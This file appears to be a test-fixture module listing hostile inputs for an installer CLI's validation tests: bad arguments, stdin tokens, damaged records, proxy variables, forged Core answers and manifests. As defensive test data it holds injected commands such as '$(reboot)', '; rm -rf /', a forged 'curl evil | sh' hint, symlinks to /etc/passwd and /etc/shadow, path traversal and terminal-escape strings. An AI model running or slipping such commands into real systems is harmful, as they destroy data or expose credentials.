// The rows of hostile-inputs.test.ts: each names its requirement, the kind of input it attacks
// (arguments, stdin, a file we read, Core's answers, the environment), the command line, what it
// sets up on the scratch tree or arms in the reference Core, and what its one line must say.
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, chownSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { createConnection, createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { layout, parseInstallationId } from '../../src/layout.ts';
import type { TestCore } from '../helpers/core.ts';
import { dockerGid } from '../helpers/scratch-root.ts';
import { registeredIdentity } from '../helpers/identity-file.ts';

/** The reference Core's installation, and another one whose token this host never saw. */
export const CORE_ID = '7c1f7a52-4a7e-4d43-9a53-3c1f0e0b9d01';
export const OTHER_ID = '0b6e2f9d-9d0c-4c35-8f1f-5a2d8e1c4b02';
const NODE_UID = 65532;
const names = layout(parseInstallationId(CORE_ID));

export interface Ctx {
  exe: string;
  core: TestCore;
  /** A valid enrollment token of CORE_ID (reading the configuration never uses it up). */
  token: string;
  root: string;
}

type Kind =
  | 'argument'
  | 'stdin'
  | 'journal'
  | 'identity'
  | 'provider file'
  | 'env file'
  | 'manifest'
  | 'Core'
  | 'environment';

export interface Row {
  req: string;
  kind: Kind;
  name: string;
  args: (c: Ctx) => string[];
  stdin?: (c: Ctx) => string | Buffer;
  env?: (c: Ctx) => Record<string, string>;
  /** Puts the hostile input in place; may return an undo (a server to close). */
  setup?: (c: Ctx) => Promise<(() => Promise<void>) | undefined> | void;
  /** A fault for the reference Core (docs/reference-core.md "Fault switches"). */
  fault?: (c: Ctx) => object;
  /** What the one line must say. */
  expect: RegExp;
  /** More secrets this row hands over, none of which may be printed. */
  secrets?: (c: Ctx) => string[];
}

export interface Ran {
  status: number | null;
  stdout: string;
  stderr: string;
}

/** The executable as a child (asynchronous: the docker socket stand-in lives in this process). */
export function runExe(
  exe: string,
  args: string[],
  o: { stdin: string | Buffer; env: Record<string, string> },
): Promise<Ran> {
  const child = spawn(exe, args, {
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', ...o.env },
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (b: Buffer) => (stdout += b.toString()));
  child.stderr.on('data', (b: Buffer) => (stderr += b.toString()));
  // A refusal may close stdin before all of it is written.
  child.stdin.on('error', () => undefined);
  child.stdin.end(o.stdin);
  const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
  return new Promise((resolve) =>
    child.once('close', (status) => {
      clearTimeout(timer);
      resolve({ status, stdout, stderr });
    }),
  );
}

// --- inputs -------------------------------------------------------------------------------

/** install with valid arguments, where `more` (flag, value pairs) replaces or adds flags: a
 *  flag given twice would reach yargs as an array and be refused for that reason alone. */
function install(c: Ctx, ...more: string[]): string[] {
  const flags = new Map([
    ['--core-url', c.core.core_url],
    ['--installation-id', CORE_ID],
    ['--name', 'node-1'],
    ['--root', c.root],
  ]);
  for (let i = 0; i < more.length; i += 2) flags.set(more[i] ?? '', more[i + 1] ?? '');
  return ['install', ...[...flags].flat()];
}
const withToken = (c: Ctx) => `${c.token}\n`;

function put(c: Ctx, hostPath: string, content: string | Buffer, uid = 0, mode = 0o600): void {
  const path = join(c.root, hostPath);
  mkdirSync(dirname(path), { recursive: true, mode: 0o755 });
  writeFileSync(path, content, { mode });
  chownSync(path, uid, uid);
}
const journal = (c: Ctx, content: string | Buffer) => put(c, names.journal, content);
const identity = (c: Ctx, content: string | Buffer) =>
  put(c, names.identityFile, content, NODE_UID);

function journalOf(id: string, coreUrl: string): string {
  const now = new Date().toISOString();
  return JSON.stringify({
    format: 2,
    installation_id: id,
    core_url: coreUrl,
    created_at: now,
    updated_at: now,
    inputs: { provider: 'docker', group: 'docker', checkpoint_root: null },
    resources: {},
  });
}

/** A record of this Core, and an identity the node account rewrote to name another. */
export function identityNamingAnotherCore(c: Ctx): void {
  journal(c, journalOf(CORE_ID, c.core.core_url));
  identity(c, identityOf('http://127.0.0.1:9'));
}
export const IDENTITY_ELSEWHERE =
  /identity .*names Core at http:\/\/127\.0\.0\.1:9, but this installation's record names http/;

export const CREDENTIAL = `cred-${randomBytes(24).toString('base64url')}`;
function identityOf(coreUrl: string, extra: Record<string, unknown> = {}): string {
  const nodeId = '3a1d2c4b-5e6f-4a7b-8c9d-0e1f2a3b4c5d';
  const fields = { nodeId, installationId: CORE_ID, credential: CREDENTIAL, coreUrl };
  return JSON.stringify(
    registeredIdentity(fields, { created_at: new Date().toISOString(), ...extra }),
  );
}

/** A configuration as Core answers it, with fields overridden. */
function configuration(c: Ctx, patch: Record<string, unknown>): string {
  return JSON.stringify({
    installation_id: CORE_ID,
    provider: 'docker',
    core_url: c.core.core_url,
    generation: 1,
    specification: { release: 'r', cpus: 1, memory_mib: 256 },
    specification_digest: `sha256:${'0'.repeat(64)}`,
    max_active: 4,
    max_retained: 8,
    ...patch,
  });
}
const CONFIG = '/api/v1/sandbox-node/configuration';
const answer = (target: string, status: number, body: string, repeat?: number) => () => ({
  target,
  fault: { kind: 'answer', status, body, ...(repeat === undefined ? {} : { repeat }) },
});

/** A manifest of the release's shape with its one file overridden. */
function manifest(file: Record<string, unknown>): string {
  return JSON.stringify({
    format: 1,
    release: 'r',
    created_at: new Date().toISOString(),
    files: [
      {
        name: 'oac-runtime.tar.gz',
        size: 10,
        sha256: 'a'.repeat(64),
        kind: 'runtime-image',
        provider: 'any',
        image: { reference: 'oac-runtime:r', id: `sha256:${'a'.repeat(64)}`, unpacked_size: 1 },
        ...file,
      },
    ],
  });
}

/** The host's Docker socket at the scratch tree's /var/run/docker.sock (root:docker 0660, as
 *  Docker's package makes it), so the install gets past its Docker checks to the manifest. */
async function dockerSocket(c: Ctx): Promise<() => Promise<void>> {
  const path = join(c.root, 'var/run/docker.sock');
  mkdirSync(dirname(path), { recursive: true });
  const server = createServer((client) => {
    const upstream = createConnection('/var/run/docker.sock');
    client.on('error', () => upstream.destroy());
    upstream.on('error', () => client.destroy());
    client.pipe(upstream).pipe(client);
  });
  await new Promise<void>((resolve) => server.listen(path, resolve));
  chownSync(path, 0, dockerGid(c.root));
  chmodSync(path, 0o660);
  return () => new Promise((resolve) => server.close(() => resolve()));
}

/** For `register`: a provider file and a private token file (written by setup, before the
 *  tree is compared), and a state directory that must not appear. */
function registerFiles(c: Ctx, config: string): void {
  const dir = join(c.root, 'manual');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'provider.json'), config);
  writeFileSync(join(dir, 'token'), `${c.token}\n`, { mode: 0o600 });
  chmodSync(join(dir, 'token'), 0o600);
}
function registerArgs(c: Ctx): string[] {
  const dir = join(c.root, 'manual');
  return [
    'register',
    '--config',
    join(dir, 'provider.json'),
    '--state-dir',
    join(dir, 'state'),
    '--core-url',
    c.core.core_url,
    '--name',
    'node-1',
    '--enrollment-token-file',
    join(dir, 'token'),
  ];
}
function providerFile(c: Ctx, patch: Record<string, unknown> = {}): string {
  return JSON.stringify({
    provider: 'docker',
    installation_id: CORE_ID,
    core_url: c.core.core_url,
    generation: 1,
    specification: { release: 'r', cpus: 1, memory_mib: 256 },
    adapter: {
      host: 'unix:///var/run/docker.sock',
      image: 'oac-runtime:r',
      network: 'oac-node-test',
      extra_hosts: [],
      seccomp_file: '/etc/oac-node/seccomp.json',
      nested_sandbox: false,
    },
    ...patch,
  });
}
/** The env file as systemd reads it into the node's environment (KEY=VALUE lines). */
function envFile(text: string): Record<string, string> {
  return Object.fromEntries(
    text
      .split('\n')
      .filter((l) => l.includes('='))
      .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]),
  );
}

const ESC = '\u001b[2J\u001b]0;owned\u0007';
const BIDI = '\u202egpj.exe\u202c';
const PROXY_PASSWORD = 'hunter2-proxy-secret';

// --- the rows ------------------------------------------------------------------------------

const argumentRows: Row[] = [
  ['an ftp Core URL', ['--core-url', 'ftp://127.0.0.1/'], /https/],
  ['plain http to a public host', ['--core-url', 'http://example.com'], /https/],
  ['a Core URL that is no URL', ['--core-url', 'not a url'], /not a usable URL/],
  ['an empty Core URL', ['--core-url', ''], /--core-url is required/],
  [
    'credentials in the Core URL',
    ['--core-url', `http://user:${PROXY_PASSWORD}@127.0.0.1:9`],
    /not a usable URL/,
  ],
  ['an escape sequence in the Core URL', ['--core-url', `http://127.0.0.1${ESC}:9`], /URL/],
  ['a bidi override in the Core URL', ['--core-url', `http://127.0.0.1${BIDI}`], /URL/],
  ['a shell substitution as installation ID', ['--installation-id', '$(reboot)'], /installation/],
  ['an escape sequence as installation ID', ['--installation-id', `a${ESC}`], /installation/],
  ['a relative checkpoint root', ['--checkpoint-root', 'srv/x'], /checkpoint-root/],
  ['a checkpoint root with ..', ['--checkpoint-root', '/srv/../etc'], /checkpoint-root/],
  ['a checkpoint root with a space', ['--checkpoint-root', '/srv/a b'], /checkpoint-root/],
  ['an escape sequence as node name', ['--name', `n${ESC}`], /--name/],
  ['a bidi override in the node name', ['--name', `n${BIDI}`], /--name/],
  ['a 201-character node name', ['--name', 'n'.repeat(201)], /--name/],
  ['a blank node name', ['--name', '   '], /--name/],
  ['an unknown option', ['--rm-rf', '/'], /Unknown option --rm-rf/],
].map(([name, extra, expect]) => ({
  req: 'SEC-04',
  kind: 'argument' as const,
  name: name as string,
  // Later options win in yargs: the hostile value replaces the valid one.
  args: (c: Ctx) => install(c, ...(extra as string[])),
  stdin: withToken,
  expect: expect as RegExp,
  secrets: () => [PROXY_PASSWORD],
}));

argumentRows.push(
  {
    req: 'SEC-04',
    kind: 'argument',
    name: 'uninstall of installation ..',
    args: (c) => ['uninstall', '--installation-id', '..', '--root', c.root],
    expect: /installation/,
  },
  {
    req: 'SEC-09',
    kind: 'argument',
    name: 'status of a bidi installation ID',
    args: (c) => ['status', '--installation-id', `x${BIDI}`, '--root', c.root],
    expect: /installation/,
  },
  {
    req: 'SEC-04',
    kind: 'argument',
    name: 'command with a javascript: Core URL',
    args: () => ['command', '--core-url', 'javascript:alert(1)', '--installation-id', CORE_ID],
    expect: /URL|https/,
  },
  {
    req: 'SEC-04',
    kind: 'argument',
    name: 'an unknown command',
    args: (c) => ['frobnicate', '--root', c.root],
    expect: /Unknown argument|command/i,
  },
);

const stdinRows: Row[] = [
  ['70 KB on standard input', () => 'a'.repeat(70 * 1024), /Standard input holds more than/],
  ['just over 4 KiB', () => 'a'.repeat(4097), /Standard input holds more than/],
  ['a 15-character token', () => 'abcdefghijklmno\n', /Standard input must hold only/],
  ['a 513-character token', () => `${'a'.repeat(513)}\n`, /Standard input must hold only/],
  ['an escape sequence in the token', (c: Ctx) => `${c.token}${ESC}\n`, /Standard input/],
  ['two lines', (c: Ctx) => `${c.token}\nsecond-line-of-stdin\n`, /Standard input/],
  ['a NUL byte in the token', (c: Ctx) => `${c.token}\u0000x\n`, /Standard input/],
  [
    'bytes that are not UTF-8',
    (c: Ctx) => Buffer.concat([Buffer.from(c.token), Buffer.from([0xff, 0xfe, 0x80])]),
    /Standard input/,
  ],
  ['a shell command for a token', (c: Ctx) => `${c.token}; rm -rf /\n`, /Standard input/],
  ['a zero-width space before the token', (c: Ctx) => `\u200b${c.token}\n`, /Standard input/],
  [
    'a well-formed token Core never issued',
    () => `${UNKNOWN_TOKEN}\n`,
    /expired or was already used/,
  ],
].map(([name, stdin, expect]) => ({
  req: 'SEC-04',
  kind: 'stdin' as const,
  name: name as string,
  args: (c: Ctx) => install(c),
  stdin: stdin as (c: Ctx) => string | Buffer,
  expect: expect as RegExp,
  secrets: () => [UNKNOWN_TOKEN],
}));
const UNKNOWN_TOKEN = randomBytes(32).toString('base64url');

/** A `_prepare` request of the installer's shape (src/node/prepare-request.ts), patched. */
function prepareRequest(c: Ctx, patch: Record<string, unknown>): string {
  return JSON.stringify({
    installation_id: CORE_ID,
    core_url: c.core.core_url,
    console_url: c.core.console_url,
    name: 'node-1',
    token: c.token,
    configuration: JSON.parse(configuration(c, {})),
    state_dir: join(c.root, 'state'),
    store_dir: join(c.root, 'm'),
    checkpoint_root: null,
    docker_host: 'unix:///var/run/docker.sock',
    proxy_env: {},
    ...patch,
  });
}
const INVALID_REQUEST = /_prepare got an invalid request/;
stdinRows.push(
  ...[
    ['garbage', () => 'hello', INVALID_REQUEST],
    ['a JSON array', () => '[1,2]', INVALID_REQUEST],
    ['4 MB of JSON whitespace', () => ' '.repeat(4 << 20), /Standard input holds more than/],
    ['an unknown field', (c: Ctx) => prepareRequest(c, { run_as: 'root' }), INVALID_REQUEST],
    [
      'installation ID ..',
      (c: Ctx) => prepareRequest(c, { installation_id: '..' }),
      INVALID_REQUEST,
    ],
    [
      'a token with an escape sequence',
      (c: Ctx) => prepareRequest(c, { token: `${c.token}${ESC}` }),
      /invalid request on standard input: field token/,
    ],
    [
      'a configuration of another installation',
      (c: Ctx) =>
        prepareRequest(c, {
          configuration: JSON.parse(configuration(c, { installation_id: OTHER_ID })),
        }),
      /field configuration\.installation_id/,
    ],
  ].map(([name, stdin, expect]) => ({
    req: 'SEC-04',
    kind: 'stdin' as const,
    name: `_prepare: ${name as string}`,
    args: (c: Ctx) => ['_prepare', '--root', c.root],
    stdin: stdin as (c: Ctx) => string,
    expect: expect as RegExp,
  })),
);

const DAMAGED_JOURNAL = /record .* is damaged/;
const NEWER_JOURNAL =
  /^oac-node: The record \S+\/etc\/oac-node\/\S+\.json was written by a newer oac-node \(record format 3; this one reads format 2\); nothing was changed$/m;
/** A record as a newer installer might write it: format 3, with a field this one does not know. */
const newerJournal = (c: Ctx) =>
  JSON.stringify({ ...JSON.parse(journalOf(CORE_ID, c.core.core_url)), format: 3, plans: [] });
const journalRows: Row[] = [
  ['not JSON', (c: Ctx) => journal(c, '{"format": 2,'), DAMAGED_JOURNAL],
  ['a JSON array', (c: Ctx) => journal(c, '[]'), DAMAGED_JOURNAL],
  ['an unknown format', (c: Ctx) => journal(c, '{"format": 0}'), DAMAGED_JOURNAL],
  // UPG-01: a newer installer's record is said as such, and never rewritten in this format.
  ["a newer installer's record", (c: Ctx) => journal(c, newerJournal(c)), NEWER_JOURNAL],
  // Issue #26 (fuzzing): JSON.parse made `__proto__` an own key, which the schema dropped without
  // a word: the resource vanished from the record instead of the record being damaged.
  [
    'a resource keyed __proto__',
    (c: Ctx) =>
      journal(
        c,
        journalOf(CORE_ID, c.core.core_url).replace(
          '"resources":{}',
          '"resources":{"__proto__":{"kind":"file","name":"/etc/x","ownership":"owned"}}',
        ),
      ),
    DAMAGED_JOURNAL,
  ],
  [
    "another installation's record under this ID",
    (c: Ctx) => journal(c, journalOf(OTHER_ID, c.core.core_url)),
    DAMAGED_JOURNAL,
  ],
  [
    'a link to /etc/passwd',
    (c: Ctx) => {
      mkdirSync(join(c.root, 'etc/oac-node'), { recursive: true, mode: 0o700 });
      symlinkSync('../passwd', join(c.root, names.journal));
    },
    DAMAGED_JOURNAL,
  ],
  [
    'a directory',
    (c: Ctx) => void mkdirSync(join(c.root, names.journal), { recursive: true }),
    DAMAGED_JOURNAL,
  ],
  [
    'escape sequences in the recorded Core URL',
    (c: Ctx) => journal(c, journalOf(CORE_ID, `http://127.0.0.1:1/${ESC}`)),
    /another_installation|uses http:\/\/127\.0\.0\.1:1, but/,
  ],
  [
    "another installation's record at another Core",
    (c: Ctx) => put(c, `/etc/oac-node/${OTHER_ID}.json`, journalOf(OTHER_ID, 'https://x.test')),
    /another Core/,
  ],
].map(([name, setup, expect]) => ({
  req: 'SEC-04',
  kind: 'journal' as const,
  name: name as string,
  args: (c: Ctx) => install(c),
  stdin: withToken,
  setup: setup as Row['setup'],
  expect: expect as RegExp,
}));
journalRows.push(
  ...(['status', 'uninstall'] as const).map((command): Row => ({
    req: 'UPG-01',
    kind: 'journal',
    name: `${command} reads a newer installer's record`,
    args: (c) => [command, '--installation-id', CORE_ID, '--root', c.root],
    setup: (c) => journal(c, newerJournal(c)),
    expect: NEWER_JOURNAL,
  })),
  {
    req: 'SEC-04',
    kind: 'journal',
    name: 'status reads a record that is not JSON',
    args: (c) => ['status', '--installation-id', CORE_ID, '--root', c.root],
    setup: (c) => journal(c, 'garbage'),
    expect: DAMAGED_JOURNAL,
  },
  {
    req: 'SEC-04',
    kind: 'journal',
    name: 'uninstall --force reads a record that is a link',
    args: (c) => ['uninstall', '--force', '--installation-id', CORE_ID, '--root', c.root],
    setup: (c) => {
      mkdirSync(join(c.root, 'etc/oac-node'), { recursive: true, mode: 0o700 });
      symlinkSync('../shadow', join(c.root, names.journal));
    },
    expect: DAMAGED_JOURNAL,
  },
);

const DAMAGED_IDENTITY = /node's file .*identity\.json is damaged/;
const identityRows: Row[] = [
  ['install reads an identity that is not JSON', 'install', '{"format":1', DAMAGED_IDENTITY],
  ['install reads an empty object', 'install', '{}', DAMAGED_IDENTITY],
  [
    'install reads a credential with an escape sequence',
    'install',
    identityOf('http://127.0.0.1:9', { credential: `${'c'.repeat(40)}${ESC}` }),
    /credential is missing or invalid/,
  ],
  [
    'install reads an identity whose Core URL is no URL',
    'install',
    identityOf(`x${ESC}`),
    /core_url is missing or invalid/,
  ],
  ['uninstall reads an identity that is not JSON', 'uninstall', 'garbage', DAMAGED_IDENTITY],
  ['install reads an identity of 1 MB of spaces', 'install', ' '.repeat(1 << 20), /not JSON/],
].map(([name, command, content, expect]) => ({
  req: 'SEC-04',
  kind: 'identity' as const,
  name: name as string,
  args: (c: Ctx) =>
    command === 'install'
      ? install(c)
      : [command as string, '--installation-id', CORE_ID, '--root', c.root],
  setup: (c: Ctx) => {
    journal(c, journalOf(CORE_ID, c.core.core_url));
    identity(c, content as string);
  },
  expect: expect as RegExp,
  secrets: () => [CREDENTIAL],
}));
identityRows.push(
  {
    req: 'SEC-03',
    kind: 'identity',
    name: 'a registered node whose credential Core refuses (the credential is not printed)',
    args: (c) => install(c),
    setup: (c) => {
      journal(c, journalOf(CORE_ID, c.core.core_url));
      identity(c, identityOf(c.core.core_url));
    },
    expect: /Core no longer accepts this node/,
    secrets: () => [CREDENTIAL],
  },
  {
    req: 'SEC-09',
    kind: 'identity',
    name: 'uninstall asks a Core URL with escape sequences in its path',
    args: (c) => ['uninstall', '--installation-id', CORE_ID, '--root', c.root],
    setup: (c) => {
      journal(c, journalOf(CORE_ID, 'http://127.0.0.1:9'));
      identity(c, identityOf(`http://127.0.0.1:9/${ESC}`));
    },
    expect: /Cannot ask Core/,
    secrets: () => [CREDENTIAL],
  },
  // The identity is the node account's file: a node account that rewrote it to name another
  // Core must not steer where root sends the credential, nor whose answer counts as Core's
  // (status: test/host/hostile-inputs.test.ts).
  {
    req: 'SEC-04',
    kind: 'identity',
    name: 'uninstall reads an identity naming another Core than the record (nothing is asked there)',
    args: (c) => ['uninstall', '--installation-id', CORE_ID, '--root', c.root],
    setup: identityNamingAnotherCore,
    expect: IDENTITY_ELSEWHERE,
    secrets: () => [CREDENTIAL],
  },
);

const providerRows: Row[] = [
  ['not JSON', () => '{"provider":', /provider file/i],
  ['an empty object', () => '{}', /provider file/i],
  ['provider e2b', (c: Ctx) => providerFile(c, { provider: 'e2b' }), /provider file/i],
  [
    'a Docker host that is a TCP address',
    (c: Ctx) =>
      providerFile(c, {
        adapter: { ...JSON.parse(providerFile(c)).adapter, host: 'tcp://10.0.0.1:2375' },
      }),
    /provider file/i,
  ],
  [
    'an escape sequence in the network name',
    (c: Ctx) =>
      providerFile(c, { adapter: { ...JSON.parse(providerFile(c)).adapter, network: `n${ESC}` } }),
    /provider file/i,
  ],
  [
    'an installation ID with a bidi override',
    (c: Ctx) => providerFile(c, { installation_id: `x${BIDI}` }),
    /provider file|installation/i,
  ],
  [
    'a Core URL other than --core-url',
    (c: Ctx) => providerFile(c, { core_url: `https://core.example/${ESC}` }),
    /names Core|provider file/i,
  ],
].map(([name, content, expect]) => ({
  req: 'SEC-04',
  kind: 'provider file' as const,
  name: name as string,
  args: registerArgs,
  setup: (c: Ctx) => registerFiles(c, (content as (c: Ctx) => string)(c)),
  expect: expect as RegExp,
}));

const envRows: Row[] = [
  ['HTTPS_PROXY that is no URL', 'HTTPS_PROXY=not a proxy', /HTTPS_PROXY/],
  ['a socks5 proxy', 'HTTP_PROXY=socks5://127.0.0.1:1080', /socks5/],
  [
    'a proxy password with a bad percent escape',
    `https_proxy=http://user:${PROXY_PASSWORD}%zz@127.0.0.1:3128`,
    /https_proxy/,
  ],
  ['NO_PROXY with a space', 'NO_PROXY=a b,c', /NO_PROXY/],
  ['an escape sequence in a proxy', `HTTPS_PROXY=http://127.0.0.1:3128${ESC}`, /HTTPS_PROXY/],
  ['a carriage return in a proxy', 'HTTPS_PROXY=http://127.0.0.1:3128\r', /HTTPS_PROXY/],
].map(([name, text, expect]) => ({
  req: 'SEC-04',
  kind: 'env file' as const,
  name: `${name as string} (the node's environment, as systemd loads the file)`,
  args: registerArgs,
  setup: (c: Ctx) => registerFiles(c, providerFile(c)),
  env: () => envFile(text as string),
  expect: expect as RegExp,
  secrets: () => [PROXY_PASSWORD],
}));

const environmentRows: Row[] = [
  ['HTTPS_PROXY that is no URL', { HTTPS_PROXY: 'not a proxy' }, /HTTPS_PROXY/],
  ['an ftp proxy', { http_proxy: 'ftp://127.0.0.1:21' }, /ftp/],
  [
    'a proxy with a password and no host',
    { HTTPS_PROXY: `http://user:${PROXY_PASSWORD}@` },
    /HTTPS_PROXY/,
  ],
  ['no_proxy with a bidi override', { no_proxy: `a${BIDI}` }, /no_proxy/],
  ['ALL_PROXY with an escape sequence', { HTTP_PROXY: `http://h${ESC}:1` }, /HTTP_PROXY/],
  [
    'https_proxy ending in a carriage return (a CRLF /etc/environment)',
    { https_proxy: 'http://127.0.0.1:3128\r' },
    /https_proxy/,
  ],
  [
    'a carriage return in HTTP_PROXY, which http_proxy hides',
    { http_proxy: 'http://127.0.0.1:3128', HTTP_PROXY: 'http://127.0.0.1:3128/\rno_proxy=*' },
    /HTTP_PROXY/,
  ],
].map(([name, env, expect]) => ({
  req: 'SEC-04',
  kind: 'environment' as const,
  name: name as string,
  args: (c: Ctx) => install(c),
  stdin: withToken,
  env: () => env as Record<string, string>,
  expect: expect as RegExp,
  secrets: () => [PROXY_PASSWORD],
}));
environmentRows.push(
  // The pasted line starts the installer with `env -i` (SEC-07), so a variable exported in the
  // operator's shell never reaches it; PRE-02 is the installer's own refusal, for whoever runs it
  // by hand (`sudo -E`, a wrapper script). An e2e test until issue #28 item 3: nothing in it
  // needs a booted host.
  {
    req: 'PRE-02 SEC-03',
    kind: 'environment',
    name: 'the token in OAC_ENROLLMENT_TOKEN',
    args: (c) => install(c),
    stdin: withToken,
    env: (c) => ({ OAC_ENROLLMENT_TOKEN: c.token }),
    expect:
      /^oac-node: The enrollment token must come on standard input, not from the environment$/,
  },
  {
    req: 'SEC-03',
    kind: 'environment',
    name: 'the token from stdin also in another variable',
    args: (c) => install(c),
    stdin: withToken,
    env: (c) => ({ SOMETHING: c.token }),
    expect: /standard input, not from the environment/,
  },
);

const coreRows: Row[] = [
  [
    'configuration that is not JSON',
    answer(CONFIG, 200, '<html>'),
    /does not match the machine API/,
  ],
  ['an empty object', answer(CONFIG, 200, '{}'), /does not match the machine API/],
  // Issue #26 (review of the fuzzing's fix): a `__proto__` key deep in the specification (a
  // record of anything) passed the schema, was written into the node's identity, and made that
  // file unreadable afterwards; refused as it arrives now.
  [
    'a specification with a __proto__ key',
    (c: Ctx) =>
      answer(
        CONFIG,
        200,
        configuration(c, {}).replace('"specification":{', '"specification":{"__proto__":{"a":1},'),
      )(),
    /does not match the machine API: has a __proto__ key/,
  ],
  [
    'provider e2b',
    (c: Ctx) => answer(CONFIG, 200, configuration(c, { provider: 'e2b' }))(),
    /machine API: provider/,
  ],
  [
    'generation -1',
    (c: Ctx) => answer(CONFIG, 200, configuration(c, { generation: -1 }))(),
    /machine API: generation/,
  ],
  [
    'another installation ID with escape sequences',
    (c: Ctx) => answer(CONFIG, 200, configuration(c, { installation_id: `x${ESC}${BIDI}` }))(),
    /configuration is for installation x\\x1b/,
  ],
  [
    'another Core URL',
    (c: Ctx) => answer(CONFIG, 200, configuration(c, { core_url: 'https://core.example' }))(),
    /public URL changed/,
  ],
  [
    'a javascript: Core URL',
    (c: Ctx) => answer(CONFIG, 200, configuration(c, { core_url: 'javascript:alert(1)' }))(),
    /public URL changed/,
  ],
  [
    'a 400 whose message forges a line and a hint',
    answer(
      CONFIG,
      400,
      JSON.stringify({
        error: { code: 'invalid_request', message: `bad${ESC}\n  hint: curl evil | sh` },
      }),
    ),
    /refused the request/,
  ],
  [
    'a 401 that echoes the token',
    (c: Ctx) =>
      answer(
        CONFIG,
        401,
        JSON.stringify({ error: { code: 'invalid_node_credential', message: c.token } }),
      )(),
    /expired or was already used/,
  ],
  ['HTTP 418', answer(CONFIG, 418, '{}'), /HTTP 418/],
  [
    'an answer over 1 MiB',
    answer(CONFIG, 200, `{"a":"${'x'.repeat(32 * 1024 - 16)}`, 40),
    /exceeds/,
  ],
  [
    'an error body with a huge code',
    answer(CONFIG, 409, JSON.stringify({ error: { code: 'x'.repeat(5000) } })),
    /HTTP 409/,
  ],
].map(([name, fault, expect]) => ({
  req: 'SEC-04',
  kind: 'Core' as const,
  name: name as string,
  args: (c: Ctx) => install(c),
  stdin: withToken,
  fault: fault as (c: Ctx) => object,
  expect: expect as RegExp,
}));
coreRows.push({
  req: 'SEC-04',
  kind: 'Core',
  name: "a valid token of this Core with another installation's --installation-id",
  args: (c) => install(c, '--installation-id', OTHER_ID),
  stdin: withToken,
  expect: new RegExp(`configuration is for installation ${CORE_ID}, but this command names`),
});

const manifestRows: Row[] = [
  ['not JSON', '{"format":', /manifest/i],
  ['a file named ../../etc/passwd', manifest({ name: '../../etc/passwd' }), /manifest/i],
  ['a file name with NUL', manifest({ name: 'a\u0000b' }), /manifest/i],
  ['a file name with a slash', manifest({ name: 'a/b' }), /manifest/i],
  // Issue #26 (fuzzing): a lone surrogate, valid JSON (`\ud800`) but no UTF-8, was taken; on
  // disk and in a bundle's header it becomes U+FFFD, so two names could name one file.
  [
    'a file name with a lone surrogate (not UTF-8)',
    manifest({ name: 'a\ud800b' }),
    /manifest is invalid: files\.0\.name file name is not UTF-8/,
  ],
  [
    'an image reference with an escape sequence',
    manifest({
      image: { reference: `x${ESC}:1`, id: `sha256:${'a'.repeat(64)}`, unpacked_size: 1 },
    }),
    /manifest/i,
  ],
  ['a malformed SHA-256', manifest({ sha256: 'zz' }), /manifest/i],
  ['a negative size', manifest({ size: -1 }), /manifest/i],
].map(([name, body, expect]) => ({
  req: 'SEC-04',
  kind: 'manifest' as const,
  name: name as string,
  args: (c: Ctx) => install(c),
  stdin: withToken,
  setup: dockerSocket,
  fault: answer('manifest.json', 200, body as string),
  expect: expect as RegExp,
}));
manifestRows.push({
  req: 'SEC-04',
  kind: 'manifest',
  name: 'no manifest (404)',
  args: (c) => install(c),
  stdin: withToken,
  setup: dockerSocket,
  fault: () => ({ target: 'manifest.json', fault: { kind: 'absent' } }),
  expect: /no node files/,
});

export const ROWS: Row[] = [
  ...argumentRows,
  ...stdinRows,
  ...journalRows,
  ...identityRows,
  ...providerRows,
  ...envRows,
  ...environmentRows,
  ...coreRows,
  ...manifestRows,
];
